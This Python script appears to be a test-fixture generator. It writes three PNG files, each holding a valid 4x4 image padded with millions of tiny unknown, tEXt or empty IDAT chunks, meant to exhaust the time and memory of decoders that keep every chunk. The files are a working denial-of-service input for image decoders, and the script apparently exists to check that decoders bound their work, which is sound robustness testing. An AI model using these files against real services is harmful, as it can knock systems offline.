#!/usr/bin/env python3
"""Writes the three flood files: PNG files of many tiny chunks, which cost a
decoder that keeps or looks up every chunk far more time and memory than
their size. Each holds a valid 4 x 4 RGBA picture, so a decoder that bounds
its work loads them completely.

    make_flood_files.py OUTDIR [--unknown-chunks N]

  flood_unknown.png  N empty unknown ancillary chunks before the image data
                     (2,500,000 by default: 30 MB; 22,000,000 make 264 MB)
  flood_text.png     1,000,000 "tEXt" chunks of 3 data bytes before the
                     image data (15 MB)
  flood_idat.png     1,000,000 empty "IDAT" chunks after the image data (12 MB)
"""
import argparse
import struct
import zlib
from pathlib import Path

SIGNATURE = b'\x89PNG\r\n\x1a\n'
BLOCK = 1 << 16  # chunks written per call


def chunk(kind, data=b''):
    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data) & 0xFFFFFFFF)


def picture_parts():
    head = chunk(b'IHDR', struct.pack('>IIBBBBB', 4, 4, 8, 6, 0, 0, 0))
    rows = b''.join(b'\0' + bytes((x * 37 + y * 11 + 1) & 255 for x in range(16)) for y in range(4))
    return head, chunk(b'IDAT', zlib.compress(rows, 9)), chunk(b'IEND')


def write_flood(path, flood, count, flood_first):
    head, data, end = picture_parts()
    with open(path, 'wb') as out:
        out.write(SIGNATURE + head + (b'' if flood_first else data))
        left = count
        while left > 0:
            n = min(left, BLOCK)
            out.write(flood * n)
            left -= n
        out.write((data if flood_first else b'') + end)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument('outdir', type=Path)
    parser.add_argument('--unknown-chunks', type=int, default=2_500_000)
    args = parser.parse_args()
    args.outdir.mkdir(parents=True, exist_ok=True)
    write_flood(args.outdir / 'flood_unknown.png', chunk(b'abCD'), args.unknown_chunks, True)
    write_flood(args.outdir / 'flood_text.png', chunk(b'tEXt', b'k\0v'), 1_000_000, True)
    write_flood(args.outdir / 'flood_idat.png', chunk(b'IDAT'), 1_000_000, False)


if __name__ == '__main__':
    main()
